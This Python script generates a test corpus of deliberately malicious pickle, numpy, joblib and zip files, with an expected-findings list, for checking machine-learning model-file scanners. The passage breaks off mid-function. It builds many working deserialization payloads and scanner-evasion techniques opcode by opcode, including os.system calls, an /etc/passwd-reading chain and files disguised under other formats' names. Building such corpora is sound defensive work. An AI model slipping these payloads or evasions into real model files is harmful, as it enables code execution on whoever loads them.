#!/usr/bin/env python3
"""Writes files that are dangerous to load, and a list of what must be found in each.

    dangerous.py DIRECTORY

They follow the published techniques: the tests and advisories (GHSA-…) of picklescan, modelscan, fickling
and modelaudit, and the issues that report what those missed. Nothing here is ever loaded, and what a file
would do if it were is harmless: it says `echo`, or names a host that cannot exist.

The list, `expected.json`, says of each file: its technique, where that was published, which imports must
be told as dangerous (as `module.name`), and, where no import can be told, that a risk of severity high is
enough.
"""

import binascii
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path

ECHO = "echo corpus"
CASES = []


def case(file, content, technique, source, *imports):
    """One file; without imports, only that it is dangerous must be found."""
    assert all(file != other["file"] for other, _ in CASES), file
    CASES.append(({"file": file, "technique": technique, "source": source, "imports": list(imports)}, content))


# --- pickles, put together by opcode -----------------------------------------------------------------


def text(value):
    """SHORT_BINUNICODE, as protocol 4 writes texts."""
    encoded = value.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def value(*values):
    """A tuple, as `pickle` writes it, without what frames it."""
    return pickle.dumps(values, 2)[2:-1]


def by_line(module, name):
    return f"c{module}\n{name}\n".encode()


def by_stack(module, name):
    return text(module) + text(name) + b"\x93"


def program(*parts, protocol=4):
    return b"\x80" + bytes([protocol]) + b"".join(parts) + b"."


def call(module, name, *arguments):
    return program(by_stack(module, name), value(*arguments), b"R")


def frame(content):
    return b"\x95" + struct.pack("<Q", len(content)) + content


SYSTEM = program(by_line("os", "system"), value(ECHO), b"R", protocol=2)
SYSTEM_CALL = SYSTEM[2:-1]
UNMARKED = b"cos\nsystem\n(S'echo corpus'\ntR."
BENIGN = pickle.dumps({"weights": [1.0, 2.0], "name": "model"}, 4)


class Reduced:
    """What `pickle` itself writes for an object that asks to be made by a call."""

    def __init__(self, function, *arguments):
        self.reduced = function, arguments

    def __reduce__(self):
        return self.reduced


def opcodes():
    source = "picklescan tests/data, one file for each protocol"
    for protocol in range(6):
        builtins = "__builtin__" if protocol < 3 else "builtins"
        case(f"eval-{protocol}.pkl", pickle.dumps(Reduced(eval, "print(1)"), protocol), f"eval, protocol {protocol}", source, f"{builtins}.eval")
    python = "CPython Modules/_pickle.c"
    case("global.pkl", SYSTEM, "GLOBAL and REDUCE", python, "os.system")
    case("unmarked.pkl", UNMARKED, "GLOBAL and REDUCE, protocol 0", python, "os.system")
    case("inst.pkl", b"(S'print(1)'\ni__builtin__\nexec\n.", "INST", "picklescan malicious10.pkl", "__builtin__.exec")
    case("obj.pkl", b'(cos\nsystem\nS"echo corpus"\no.', "OBJ", "fickling test_crashes.test_obj", "os.system")
    obj = program(b"(" + by_stack("smtplib", "SMTP") + text("host.invalid") + b"o0N")
    case("obj-pop.pkl", obj, "OBJ whose result is popped", "fickling GHSA-mxhj-88fx-4pcv", "smtplib.SMTP")
    case("obj-spawn.pkl", program(b"(", by_stack("pty", "spawn"), text("echo"), b"o"), "OBJ", "fickling pull 108", "pty.spawn")
    newobj = program(by_stack("subprocess", "Popen"), b")\x81")
    case("newobj.pkl", newobj, "NEWOBJ", python, "subprocess.Popen")
    newobj_ex = program(by_stack("os", "_wrap_close"), b")}\x92")
    case("newobj-ex.pkl", newobj_ex, "NEWOBJ_EX", "modelaudit test_newobj_ex_dangerous_class", "os._wrap_close")
    case("stack-global-8.pkl", program(frame(b"\x8d" + struct.pack("<Q", 8) + b"builtins" + b"\x8d" + struct.pack("<Q", 4) + b"exec\x93" + value("print(1)") + b"R")), "STACK_GLOBAL by BINUNICODE8", "modelaudit gen_bypass_v4.py", "builtins.exec")
    case("string-stack-global.pkl", b"S'os'\nS'system'\n\x93S'echo'\n\x85R.", "STACK_GLOBAL by STRING", "picklescan GHSA-9gvj-pp9x-gcfr", "os.system")
    short = lambda name: b"U" + bytes([len(name)]) + name
    case("short-binstring-stack-global.pkl", program(short(b"os"), short(b"system"), b"\x93", value(ECHO), b"R"), "STACK_GLOBAL by SHORT_BINSTRING", "modelscan pull 313", "os.system")
    long = lambda name: b"T" + struct.pack("<I", len(name)) + name
    case("binstring-stack-global.pkl", program(long(b"os"), long(b"system"), b"\x93", value(ECHO), b"R"), "STACK_GLOBAL by BINSTRING", "modelscan pull 313", "os.system")
    unreferenced = program(by_stack("os", "system"), b"0N")
    case("import-only.pkl", unreferenced, "import that is popped and never called", python, "os.system")
    for size, opcode in ((1, b"\x82"), (2, b"\x83"), (4, b"\x84")):
        code = (7).to_bytes(size, "little")
        case(f"ext{size}.pkl", program(opcode + code, value(ECHO), b"R"), f"EXT{size}, the extension registry", "modelaudit test_ext_unresolved_code_still_flagged")
    registered = program(by_line("copyreg", "add_extension"), value("os", "system", 9), b"R0\x82\x09", value(ECHO), b"R")
    case("ext-registered.pkl", registered, "an extension registered by the pickle itself", "modelaudit test_ext_reduce_extension_registry_is_flagged", "copyreg.add_extension")
    case("persistent.pkl", program(b"(" + text("storage"), SYSTEM_CALL, b"tQ"), "a call in a persistent id", python, "os.system")
    case("persistent-line.pkl", b"Pstorage\n0" + UNMARKED, "behind a persistent id, protocol 0", python, "os.system")
    case("persistent-called.pkl", program(b"Pos.system\n", value(ECHO), b"R"), "calls what a persistent id stands for", python)
    case("setstate.pkl", program(by_stack("collections", "OrderedDict"), b")R}", text("__setstate__"), by_stack("os", "system"), b"sb", text(ECHO), b"b"), "BUILD that puts a __setstate__ in place, which the next BUILD calls", "modelscan issue 85", "os.system")
    prod = by_line("numpy", "prod") + b"N(Va\nVos\nd\x86b" + b"N(Vb\nVsystem\nd\x86b0" + by_line("numpy", "prod.a") + b"p0\n" + by_line("numpy", "prod.b") + b"p1\n00g0\ng1\n\x93" + value(ECHO) + b"R"
    case("build-attributes.pkl", program(prod, protocol=5), "BUILD that writes attributes of an import, read by dotted names", "modelscan issue 85")
    size = by_stack("numpy", "size") + b"\x940" + by_stack("numpy", "__builtins__") + b"\x940h\x00}}" + text("shape") + b"h\x01s\x86bh\x00h\x00" + text("eval") + b"\x86R" + value("print(1)") + b"R"
    case("numpy-builtins.pkl", program(size), "eval out of numpy.__builtins__ through numpy.size", "modelscan issue 330", "numpy.__builtins__")
    poly1d = by_stack("numpy", "poly1d") + b"\x94" + by_stack("numpy", "size") + b"\x94" + by_stack("numpy", "__builtins__") + b"\x94000h\x00N\x85R\x94N}" + text("shape") + b"h\x02s\x86bh\x01h\x03" + text("eval") + b"\x86R" + value("print(1)") + b"R"
    case("numpy-poly1d.pkl", program(poly1d), "eval out of numpy.__builtins__ through numpy.poly1d", "mindspore issue 183, fickling test_pop_mark", "numpy.__builtins__")
    overwrite = by_stack("sklearn.base", "__builtins__") + text("len") + by_stack("os", "system") + b"s"
    case("setitem-on-import.pkl", program(overwrite), "SETITEM on what was imported", "modelaudit pull 1524", "os.system", "sklearn.base.__builtins__")
    case("append-on-import.pkl", program(by_stack("sys", "path"), text("/tmp/corpus"), b"a"), "APPEND to what was imported", "CPython Lib/pickle.py", "sys.path")


def operands():
    """The names of an import, hidden from who does not follow stack and memo."""
    memo = b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vecho corpus\ntR."
    case("memo-put.pkl", memo, "operands from the memo, harmless ones put last", "picklescan issue 22, malicious11.pkl", "os.system")
    case("memo-trailing.pkl", memo + b"\n\n\t\t", "the same, with bytes behind it", "picklescan malicious-invalid-bytes.pkl", "os.system")
    mixed = long_text("os") + b"q\x00" + long_text("system") + b"q\x01" + text("torch._utils") + b"\x94" + text("_rebuild_tensor_v2") + b"\x940000h\x00h\x01\x93" + value(ECHO) + b"R"
    case("memo-mixed.pkl", program(mixed), "PUT and MEMOIZE mixed", "picklescan issue 14", "os.system")
    decoys = text("os") + text("system") + text("torch._utils") + b"0" + text("_rebuild_tensor_v2") + b"0\x93" + value(ECHO) + b"R"
    case("popped-decoys.pkl", program(decoys), "harmless texts pushed and popped before STACK_GLOBAL", "modelaudit test_stack_global_uses_actual_stack_not_popped_decoys", "os.system")
    padded = text("os") + b"\x940" + text("system") + b"\x940" + b"".join(text(f"padding {i}") for i in range(20)) + b"h\x00h\x01\x93" + value(ECHO) + b"R"
    case("memo-padding.pkl", program(padded), "operands from the memo behind many texts", "agent-bom pull 3326", "os.system")
    marked = text("os") + b"\x94(" + text("x") + b"1" + text("system") + b"\x93" + value(ECHO) + b"R"
    case("pop-mark.pkl", program(marked), "POP_MARK between the operands", "fickling test_crashes.test_pop_mark", "os.system")
    dup = text("os") + b"2" + b"0" + text("system") + b"2" + b"0\x93" + value(ECHO) + b"R"
    case("dup.pkl", program(dup), "operands duplicated", "CPython Lib/pickle.py", "os.system")
    twice = by_stack("os", "system") + b"\x940" + by_stack("collections", "OrderedDict") + b"0h\x00" + value(ECHO) + b"R"
    case("memo-callable.pkl", program(twice), "the callable from the memo", "modelaudit test_reduce_pattern_detects_memoized_callable", "os.system")
    long_memo = text("os") + b"r\x00\x01\x00\x00" + b"0" + text("system") + b"r\x01\x01\x00\x00" + b"0j\x00\x01\x00\x00j\x01\x01\x00\x00\x93" + value(ECHO) + b"R"
    case("memo-long.pkl", program(long_memo), "LONG_BINPUT and LONG_BINGET", "modelaudit pull 493", "os.system")
    case("escaped-unicode.pkl", b"\x80\x04V\\u006fs\n" + text("system") + b"\x93" + value(ECHO) + b"R.", "an operand with escapes (UNICODE)", "CPython Lib/pickle.py")
    case("escaped-string.pkl", b"\x80\x04S'\\x6fs'\n" + text("system") + b"\x93" + value(ECHO) + b"R.", "an operand with escapes (STRING)", "CPython Lib/pickle.py")
    computed = by_stack("builtins", "str") + b"C\x02os" + text("ascii") + b"\x86R" + text("system") + b"\x93" + value(ECHO) + b"R"
    case("computed-operand.pkl", program(computed), "an operand computed from allowed names", "modelscan issue 331")
    joined = by_stack("importlib", "import_module") + value("builtins") + b"R\x940" + by_stack("builtins", "getattr") + b"h\x00" + text("str") + b"\x86R"
    case("join.pkl", program(joined), "names joined from letters", "modelscan issue 331", "importlib.import_module", "builtins.getattr")
    itemgetter = by_line("operator", "itemgetter") + value(1, 0) + b"R" + value("so") + b"R\x940" + by_line("builtins", "getattr") + value("", "join") + b"Rh\x00\x85R" + text("system") + b"\x93"
    case("itemgetter.pkl", program(itemgetter), "names picked from an alphabet", "fickling issue 125", "operator.itemgetter", "builtins.getattr")
    long_name = b"\x80\x02cos\n" + b"a" * 2_000 + b"\n" + value(ECHO) + b"R."
    case("long-name.pkl", long_name, "a name longer than names are", "resource limits")
    case("name-of-bytes.pkl", b"\x80\x02cmod\n\xf8\n" + value(ECHO) + b"R.", "a name that is no text", "picklescan not_a_pickle.bin")


def long_text(value):
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def dotted():
    """Attributes of attributes: STACK_GLOBAL follows dots."""
    source = "fickling GHSA-5j3x-jp52-966f"
    for module, name in [
        ("pathlib", "os.system"), ("sklearn.datasets._base", "os.system"), ("numpy.lib._datasource", "os.popen"),
        ("sklearn.utils.validation", "warnings.sys.modules"), ("torch.library", "torch.utils.collect_env.run"),
        ("joblib.parallel", "os.system"), ("pandas.io.common", "os.system"), ("xgboost.core", "os.system"),
        ("lightgbm.basic", "ctypes.CDLL"), ("scipy.sparse._base", "np.f2py.crackfortran.getlincoef"),
        ("collections", "_sys.modules"), ("mycompany.models", "os.system"), ("sklearn.base", "BaseEstimator.__class__.__base__"),
        ("torch", "_utils.sys.exit"), ("sklearn.linear_model._logistic", "LogisticRegression.__init__.__globals__"),
    ]:
        case(f"dotted-{module}-{name}.pkl", call(module, name, ECHO), "a dotted name", source, f"{module}.{name}")
    case("dotted-call.pkl", program(by_line("builtins", "eval.__call__"), value("print(1)"), b"R", protocol=5), "__call__ of a builtin", "modelscan malicious13", "builtins.eval.__call__")
    for module, name in [("sklearn.datasets._base", "os"), ("xgboost.core", "subprocess"), ("mycompany.models", "sys"), ("torch.serialization", "pickle"), ("numpy.testing", "os")]:
        case(f"module-{module}-{name}.pkl", program(by_stack(module, name)), "a module as an attribute of another", source, f"{module}.{name}")
    for module, name in [("six.moves.builtins", "eval"), ("six.moves.urllib.request", "urlopen"), ("past.builtins", "execfile"), ("sklearn.externals.joblib", "load"), ("joblib.externals.cloudpickle.cloudpickle", "subimport"), ("setuptools.extern.packaging", "os")]:
        case(f"vendored-{module}-{name}.pkl", call(module, name, ECHO), "a module that passes another on", "CPython issue 72085 and six's documentation", f"{module}.{name}")


def streams():
    case("second-stream.pkl", BENIGN + SYSTEM, "a second stream", "picklescan malicious6.pkl", "os.system")
    case("second-stream-unmarked.pkl", BENIGN + UNMARKED, "a second stream, protocol 0", "picklescan malicious6.pkl", "os.system")
    case("third-stream.pkl", BENIGN * 2 + SYSTEM, "a third stream", "modelaudit test_multi_stream_benign_then_malicious", "os.system")
    case("separated.pkl", BENIGN + b"\x00" + SYSTEM, "a byte between streams", "modelaudit test_multi_stream_separator_byte_resync")
    case("malformed-first.pkl", b"\x80\x02cmod\n\xf8\n." + SYSTEM, "a first stream that is malformed", "modelaudit test_multi_stream_malformed_first_stream_still_detects_second")
    case("trailing.pkl", BENIGN + b"\xff" * 64, "bytes behind the last stream", "trailing data")
    reached = SYSTEM[:-1]
    breaks = {
        "truncated": b"", "unknown-opcode": b"\xff.", "missing-memo": b"0" + text("os") + b"\x94h\x03h\x00\x93K\x42.",
        "type-confusion": b"0J\x2a\0\0\0\x94" + text("os") + b"\x94h\x00h\x01\x93K\x42.", "empty-stack": b"00000.",
        "no-mark": b"t.", "bad-number": b"Iabc\n.", "bad-protocol": b"\x80\x7f.", "long-length": b"\x8d" + b"\xff" * 8 + b".",
        "unhashable": b"}]Ns.", "bad-utf8": b"X\x02\0\0\0\xff\xff.", "bad-float": b"Fabc\n.", "negative-length": b"B\xff\xff\xff\xff.",
        "malformed-tail": b"cmod\n\xf8\n.", "put-without-value": b"0q\x00.", "bad-get": b"gabc\n.", "negative-put": b"p-1\n.",
    }
    for name, end in breaks.items():
        case(f"broken-{name}.pkl", reached + end, "a stream that breaks after it ran", "picklescan GHSA-9gvj-pp9x-gcfr, nullifAI, arXiv:2508.19774", "os.system")
    case("broken-model.pkl", b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.", "a stream that breaks in a length", "picklescan broken_model.pkl", "builtins.exec")
    case("keyerror.pkl", b"\x80\x04cos\nsystem\nVecho corpus\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.", "a memo entry that is missing", "picklescan keyerror-exploit.pkl", "os.system")
    case("missing-mark.pkl", b"\x80\x04t.", "TUPLE without a mark", "fickling issue 188")


def frames():
    source = "cpython issue 154848, fickling test_frame_boundary_divergence"
    hidden = b"cos\nsystem\nVecho corpus\n\x85R"
    divergence = b"\x80\x05NV" + b"a" * (8192 * 16 - 17) + b"\n0(\x95" + struct.pack("<Q", 2) + b"B\x07\x01\0\0\0\0" + (hidden + b"(").ljust(256 + 5, b"N") + b"1."
    case("frame-divergence.pkl", divergence, "an argument longer than its frame hides a program", source)
    short = lambda body, length: b"\x80\x05\x95" + struct.pack("<Q", length) + body + b"."
    for name, content in {
        "binbytes": short(b"B" + struct.pack("<I", 20) + b"A" * 20, 5), "text": short(b"\x8c\x14" + b"A" * 20, 3),
        "module": short(b"cmacos\nsystem\n", 4), "name": short(b"cos\nsystem\n", 7), "line": short(b"Vhello world\n", 5),
        "number": short(b"J\x07\0\0\0", 2), "in-frame": b"\x80\x05\x95" + struct.pack("<Q", 30) + b"N\x95" + struct.pack("<Q", 2) + b"N0.",
        "beyond-file": short(b"N", 1 << 40),
    }.items():
        case(f"frame-{name}.pkl", content, "a frame that lies", source)
    case("frame-dangerous.pkl", b"\x80\x05\x95" + struct.pack("<Q", 4) + SYSTEM_CALL + b".", "a call across the end of a frame", source, "os.system")


def resources():
    """Files that make who reads them run out of memory or time."""
    case("length-4gib.pkl", b"\x80\x04B\xff\xff\xff\xffN.", "a length of 4 GiB", "promptfoo/modelaudit pull 1554")
    case("length-64bit.pkl", b"\x80\x05\x96" + b"\xff" * 8 + b"N.", "a length of 64 bits (BYTEARRAY8)", "promptfoo/modelaudit pull 1554")
    case("line-without-end.pkl", b"\x80\x02cos\n" + b"a" * 5_000, "a line that does not end", "resource limits")


# --- what is called ----------------------------------------------------------------------------------


def callables():
    for line in (Path(__file__).parent / "dangerous_calls.txt").read_text().splitlines():
        line = line.split("#", 1)[0].strip()
        if not line:
            continue
        source, module, names = line.split(" ", 2)
        for name in names.split():
            # Old and new opcodes in turn: what is called must be told whatever calls it.
            if len(CASES) % 2:
                content = call(module, name, ECHO)
            else:
                content = program(by_line(module, name), value(ECHO), b"R", protocol=2)
            case(f"call-{module}.{name}.pkl", content, "a callable that runs code, or reaches files or the network", source, f"{module}.{name}")


def chains():
    slaviero = b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n."
    case("sour-pickles.pkl", slaviero, "compile, eval, getattr and apply", "Slaviero, Sour Pickles, 2011; picklescan malicious0.pkl", "__builtin__.globals", "__builtin__.compile", "__builtin__.eval", "__builtin__.getattr", "__builtin__.apply")
    loads = program(by_line("pickle", "loads"), b"B" + struct.pack("<I", len(SYSTEM)) + SYSTEM + b"\x85R0N")
    case("nested.pkl", loads, "pickle.loads of bytes", "modelscan malicious12", "pickle.loads")
    for module in ("_pickle", "cPickle"):
        case(f"nested-{module}.pkl", call(module, "loads", b"I12345\n."), "pickle.loads of bytes", "picklescan malicious13", f"{module}.loads")
    base64 = by_stack("pickle", "loads") + by_stack("base64", "b64decode") + value(binascii.b2a_base64(SYSTEM).decode()) + b"R\x85R"
    case("nested-base64.pkl", program(base64), "pickle.loads of Base64", "modelaudit nested_pickle_base64.pkl", "pickle.loads")
    storage = by_stack("torch.storage", "_load_from_bytes") + b"C" + bytes([len(SYSTEM)]) + SYSTEM + b"\x85R"
    case("nested-storage.pkl", program(storage), "torch.load of bytes", "fickling UNSAFE_IMPORTS", "torch.storage._load_from_bytes")
    partial = by_stack("functools", "partial") + by_stack("torch.serialization", "load") + b"\x85R(" + by_stack("torch.serialization", "load") + text("other.bin") + b"\x85}" + text("weights_only") + b"\x89sNtb)R"
    case("partial-load.pkl", program(partial), "torch.load through functools.partial", "picklescan malicious19.pkl", "functools.partial", "torch.serialization.load")
    methodcaller = by_line("_operator", "methodcaller") + value("system", ECHO) + b"R" + by_line("builtins", "__import__") + value("os") + b"R\x85R"
    case("methodcaller.pkl", program(methodcaller), "_operator.methodcaller on a module", "picklescan GHSA-955r-x9j8-7rhh", "_operator.methodcaller", "builtins.__import__")
    locate = by_stack("operator", "methodcaller") + value("system", ECHO) + b"R" + by_stack("pydoc", "locate") + value("os") + b"R\x85R"
    case("locate.pkl", program(locate), "operator.methodcaller on pydoc.locate", "picklescan GHSA-84r2-jw7c-4r5q", "operator.methodcaller", "pydoc.locate")
    attrgetter = by_stack("_operator", "attrgetter") + value("system") + b"R" + by_stack("builtins", "__import__") + value("os") + b"R\x85R" + value(ECHO) + b"R"
    case("attrgetter.pkl", program(attrgetter), "attrgetter on a module", "picklescan GHSA-46h3-79wf-xr6c, malicious12.pkl", "_operator.attrgetter", "builtins.__import__")
    resolve = by_stack("pkgutil", "resolve_name") + value("os:system") + b"R" + value(ECHO) + b"R"
    case("resolve-name.pkl", program(resolve), "pkgutil.resolve_name", "picklescan GHSA-vvpj-8cmc-gx39", "pkgutil.resolve_name")
    getattr_ = by_line("builtins", "__import__") + value("os") + b"R\x940" + by_line("builtins", "getattr") + b"h\x00" + text("system") + b"\x86R" + value(ECHO) + b"R"
    case("getattr.pkl", program(getattr_), "__import__ and getattr", "fickling GHSA-h4rm-mm56-xf63", "builtins.__import__", "builtins.getattr")
    marshal = by_stack("types", "FunctionType") + by_stack("marshal", "loads") + b"C\x01N\x85R}\x86R)R"
    case("marshal.pkl", program(marshal), "a function of marshalled code", "fickling GHSA-565g-hwwr-4pp3", "marshal.loads", "types.FunctionType")
    lazy = by_stack("collections", "deque") + by_stack("builtins", "map") + by_stack("os", "system") + b"]" + text(ECHO) + b"a\x86R\x85R"
    case("map.pkl", program(lazy), "builtins.map that a deque runs", "CTF collections; mindspore issue 183", "os.system", "builtins.map")
    default = by_stack("collections", "defaultdict") + by_stack("os", "getcwd") + b"\x85R"
    case("defaultdict.pkl", program(default), "a factory that a dictionary calls", "CPython collections", "os.getcwd")
    function = by_stack("cloudpickle.cloudpickle", "_make_function") + by_stack("cloudpickle.cloudpickle", "_builtin_type") + value("CodeType") + b"R)R\x85R"
    case("cloudpickle.pkl", program(function), "a function of cloudpickle", "picklescan cloudpickle_codeinjection.pkl", "cloudpickle.cloudpickle._make_function", "cloudpickle.cloudpickle._builtin_type")
    dill = by_stack("dill._dill", "_create_function") + by_stack("dill._dill", "_create_code") + value(0) + b"R\x85R"
    case("dill.pkl", program(dill), "a function of dill", "modelaudit dill_func.pkl", "dill._dill._create_function", "dill._dill._create_code")


# --- other files -------------------------------------------------------------------------------------


def disguises():
    source = "modelscan issue 338, picklescan GHSA-jgw4-cr84-mqxg"
    for name in ["image.png", "notes.txt", "config.json", "table.csv", "model.onnx", "model.safetensors", "model.gguf", "weights.h5", "pytorch_model.bin", "model.pt", "model.pb", "LICENSE"]:
        case(name, SYSTEM, "a pickle under another format's name", source, "os.system")
        case(f"unmarked-{name}", UNMARKED, "a pickle of protocol 0 under another format's name", source, "os.system")


def npy(descr, content, version=(1, 0)):
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}\n".encode()
    length = struct.pack("<H" if version[0] == 1 else "<I", len(header))
    return b"\x93NUMPY" + bytes(version) + length + header + content


def numpy_files():
    source = "picklescan dns_exfiltration.npy"
    certificate = call("ssl", "get_server_certificate", ("corpus.invalid", 443))
    case("objects.npy", npy("'|O'", certificate), "an array of objects", source, "ssl.get_server_certificate")
    for version in ((2, 0), (3, 0)):
        case(f"objects-{version[0]}.npy", npy("'|O'", SYSTEM, version), "an array of objects, later version", source, "os.system")
    for name, descr in {"name": "'object'", "number": "'O8'", "record": "[('a', '<f8'), ('b', '|O')]", "nested": "[('a', [('b', '|O')])]", "list": "'<f8,O'", "joined": "'<f8' ',O'", "upper": "'|O8'", "subarray": "('|O', (2,))"}.items():
        case(f"objects-{name}.npy", npy(descr, SYSTEM), "an array of objects, told otherwise", source, "os.system")
    escaped = b"{'de' 'scr': '|O', 'fortran_order': False, 'shape': (1,), 'descr'  : '\\x7cO'}\n"
    case("objects-escaped.npy", b"\x93NUMPY\x01\0" + struct.pack("<H", len(escaped)) + escaped + SYSTEM, "an array of objects, in a header with escapes", source, "os.system")
    case("objects.npz", zipped(("arr_0.npy", npy("'|O'", SYSTEM))), "an array of objects in an archive", "picklescan object_arrays.npz", "os.system")
    case("objects-deflated.npz", zipped(("arr_0.npy", npy("'|O'", SYSTEM)), method=zipfile.ZIP_DEFLATED), "an array of objects in an archive", "picklescan object_arrays_compressed.npz", "os.system")


def wrapper(shape, dtype, data, tail):
    """A file of joblib: an array whose data stands between the opcodes."""
    state = by_stack("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("subclass") + by_stack("numpy", "ndarray") + text("shape") + value(*shape) + text("order") + text("C") + text("dtype")
    state += by_stack("numpy", "dtype") + value(dtype, False, True) + b"R(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb" + text("allow_mmap") + b"\x88" + text("numpy_array_alignment_bytes") + b"Nub"
    return b"\x80\x04](" + state + data + tail + b"e."


def joblib_files():
    source = "joblib numpy_pickle.py; aisbom pull 91"
    case("joblib-tail.joblib", wrapper((16,), "u1", b"\x00" * 16, SYSTEM_CALL), "behind the data of an array", source, "os.system")
    case("joblib-objects.joblib", wrapper((1,), "O8", SYSTEM, b""), "in an array of objects", source, "os.system")
    hidden = SYSTEM_CALL + b"e."
    case("joblib-data.joblib", wrapper((len(hidden),), "u1", hidden, b""), "in the data of an array, which pickle takes for opcodes", source, "os.system")
    case("joblib-shape.joblib", wrapper((1 << 40,), "u1", b"\x00" * 16, SYSTEM_CALL), "behind an array that is longer than the file", source)
    case("joblib-zlib.joblib", zlib.compress(SYSTEM), "compressed with zlib", "picklescan pull 68, modelscan pull 345", "os.system")
    case("joblib-gzip.joblib", gzip.compress(SYSTEM, mtime=0), "compressed with gzip", "picklescan pull 68, modelscan pull 345", "os.system")
    case("joblib-gzip-two.joblib", gzip.compress(SYSTEM[:9], mtime=0) + gzip.compress(SYSTEM[9:], mtime=0), "compressed in two streams", "RFC 1952", "os.system")
    case("joblib-gzip-cut.joblib", gzip.compress(SYSTEM + bytes(range(256)) * 40, mtime=0)[:-8], "compressed and cut", "resource limits")
    case("joblib-bz2.joblib", bz2.compress(SYSTEM), "compressed with bzip2", "picklescan pull 68")
    case("joblib-xz.joblib", lzma.compress(SYSTEM), "compressed with xz", "picklescan pull 68")
    case("joblib-lzma.joblib", lzma.compress(SYSTEM, format=lzma.FORMAT_ALONE), "compressed with LZMA", "picklescan pull 68")
    lz4 = b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(SYSTEM) | 1 << 31) + SYSTEM + bytes(4)
    case("joblib-lz4.joblib", lz4, "compressed with LZ4", "modelaudit pull 1776")
    zstandard = b"\x28\xb5\x2f\xfd\x20" + bytes([len(SYSTEM)]) + struct.pack("<I", len(SYSTEM) << 3 | 1)[:3] + SYSTEM
    case("joblib-zstd.joblib", zstandard, "compressed with Zstandard", "pandas.to_pickle")
    old = zlib.compress(SYSTEM)
    case("joblib-old.joblib", b"ZF" + hex(len(SYSTEM)).encode().ljust(19) + old, "compressed by an old joblib", "joblib numpy_pickle_compat.py")
    case("gzip-gzip.pkl", gzip.compress(gzip.compress(SYSTEM, mtime=0), mtime=0), "compressed twice", "modelaudit pull 1776")


def zipped(*members, method=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members:
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


def changed(archive, in_local=None, in_central=None):
    """The archive with 16-bit words of its first headers replaced: {offset: value}."""
    content = bytearray(archive)
    for start, words in ((0, in_local), (archive.index(b"PK\x01\x02"), in_central)):
        for offset, word in (words or {}).items():
            content[start + offset:start + offset + 2] = struct.pack("<H", word)
    return bytes(content)


class Unseekable(io.RawIOBase):
    """Makes `zipfile` write data descriptors."""

    def __init__(self):
        self.content = bytearray()

    def writable(self):
        return True

    def write(self, content):
        self.content += bytes(content)
        return len(content)


def encrypted(name, content, password=b"corpus"):
    """The traditional encryption of zip archives (APPNOTE 6.1)."""
    crc32 = lambda byte, crc: binascii.crc32(bytes([byte]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte):
        keys[0] = crc32(byte, keys[0])
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc32(keys[1] >> 24, keys[2])

    for byte in password:
        update(byte)
    packed = bytearray()
    for byte in bytes(11) + bytes([binascii.crc32(content) >> 24]) + content:
        word = keys[2] | 2
        packed.append(byte ^ ((word * (word ^ 1)) >> 8 & 0xFF))
        update(byte)
    archive = bytearray(zipped((name, bytes(packed))))
    central = archive.index(b"PK\x01\x02")
    for start, flags, crc, size in ((0, 6, 14, 22), (central, 8, 16, 24)):
        struct.pack_into("<H", archive, start + flags, 1)
        struct.pack_into("<I", archive, start + crc, binascii.crc32(content))
        struct.pack_into("<I", archive, start + size, len(content))
    return bytes(archive)


def zip64(name, content):
    """An archive whose sizes and offsets are in the fields of Zip64."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, archive.open(zipfile.ZipInfo(name), "w", force_zip64=True) as member:
        member.write(content)
    return buffer.getvalue()


def with_zip64_end(archive):
    end = archive.rindex(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", archive, end + 12)
    record = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1, 1, size, offset)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, end, 1)
    return archive[:end] + record + locator + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def without_directory_entry(kept, hidden):
    """An archive with two members of which the directory names only one."""
    both, one = zipped(kept, hidden), zipped(kept)
    members = both[:both.index(b"PK\x01\x02")]
    directory = one[one.index(b"PK\x01\x02"):one.index(b"PK\x05\x06")]
    return members + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(directory), len(members), 0)


def zip_files():
    plain = zipped(("data.pkl", SYSTEM))
    case("plain.zip", plain, "a pickle in an archive", "picklescan malicious1.zip", "os.system")
    case("wrong-extension.zip", zipped(("data.txt", SYSTEM)), "a pickle under another name in an archive", "picklescan GHSA-769v-p64c-89pr", "os.system")
    case("unmarked-member.zip", zipped(("payload.txt", UNMARKED)), "a pickle of protocol 0 in an archive", "modelaudit test_zip_entry_with_proto0_pickle_text_extension_is_detected", "os.system")
    for name in ("DATA.PKL", "/etc/data.pkl", "../../data.pkl", "..\\data.pkl", "data.pkl\x00.txt", "données.pkl", "a/" * 40 + "data.pkl", "data.pkl "):
        slug = binascii.hexlify(name.encode()).decode()[:24]
